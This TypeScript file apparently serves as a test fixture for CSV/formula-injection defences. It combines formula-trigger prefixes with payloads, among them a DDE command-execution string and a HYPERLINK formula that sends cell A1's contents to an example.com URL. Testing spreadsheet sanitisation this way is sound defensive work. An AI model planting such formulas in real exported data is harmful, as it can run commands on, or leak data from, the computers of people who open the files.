const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠', ' =', '\u3000+', '\uFEFF=', '\u200B@', "'=", "''+", '\r\n=', '"=']
const REST = [
  '1+1',
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://example.com?"&A1,"点我")',
  'SUM(1,2);3',
  'IMPORTXML("http://example.com","//a")',
  '86 138 0000 0000',
  'x\r\n=2',
  '茶颜悦色 <b>&amp;lt;</b> _x0041_',
  '😡',
  '"quoted", \'single\'',
]
const HARMLESS = ["it's", "'", "''", 'plain', ' two  blanks ', 'a=b', '_x000D_', 'line\nbreak', 'back\rreturn', '\u007F\u0001\uFFFF', 'ends with =', '=']

/** Texts that a spreadsheet would run if it were let to, and texts that only look odd; more than two hundred. */
export const PAYLOADS: readonly string[] = [...STARTS.flatMap((start) => REST.map((rest) => start + rest)), ...HARMLESS]
